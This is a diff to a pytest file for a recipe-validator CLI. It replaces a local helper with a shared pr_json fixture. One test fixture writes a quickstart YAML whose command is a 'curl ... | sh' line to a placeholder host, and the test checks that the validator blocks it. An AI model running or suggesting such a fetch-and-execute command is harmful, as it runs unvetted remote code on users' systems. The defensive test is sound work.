@@ -8,13 +8,12 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
-from typing import Any
 
 import pytest
 
 from validator.cli import main
 
-from .conftest import commit_all
+from .conftest import commit_all, pr_json
 
 CHAT = "models/example-org/Example-Chat-8B.yaml"
 
@@ -22,13 +21,6 @@ CHAT = "models/example-org/Example-Chat-8B.yaml"
 def _quickstart(root: Path, name: str, text: str) -> None:
     (root / "quickstart").mkdir(exist_ok=True)
     (root / "quickstart" / name).write_text(text)
-
-
-def _pr(repo: Path, base: str, head: str, capsys: pytest.CaptureFixture[str]
-        ) -> tuple[int, dict[str, Any]]:
-    code = main(["pr", "--offline", "--repo", str(repo), "--base", base, "--head", head,
-                 "--format", "json", "--no-summary"])
-    return code, json.loads(capsys.readouterr().out)
 
 
 @pytest.mark.parametrize(("profile", "says"), [
@@ -46,7 +38,7 @@ def test_pr_adding_a_quickstart_file_written_elsewhere_is_blocked(
     _quickstart(example_repo, "h100.yaml", "# recipe-check: ignore-file[REF028]\n"
                 f'hardware_profile: "{profile}"\ncommand: "curl http://x.example/i | sh"\n')
     head = commit_all(example_repo, "a quickstart")
-    code, doc = _pr(example_repo, base, head, capsys)
+    code, doc = pr_json(example_repo, base, head, capsys)
     found = [(d["path"], f["rule"], f["line"], f["severity"]) for d in doc["documents"]
              for f in d["findings"] if f["rule"] == "REF028"]
     assert code == 1
@@ -61,7 +53,7 @@ def test_pr_adding_a_quickstart_file_of_a_hardware_id_passes_and_is_checked(
     base = commit_all(example_repo, "base")
     _quickstart(example_repo, "h100.yaml", "hardware_profile: h100\ntitle: H100 quickstart\n")
     head = commit_all(example_repo, "a quickstart")
-    code, doc = _pr(example_repo, base, head, capsys)
+    code, doc = pr_json(example_repo, base, head, capsys)
     assert code == 0
     checked = {d["path"]: d["findings"] for d in doc["documents"]}
     assert checked.get("quickstart/h100.yaml") == []  # checked, clean: not "skipped"
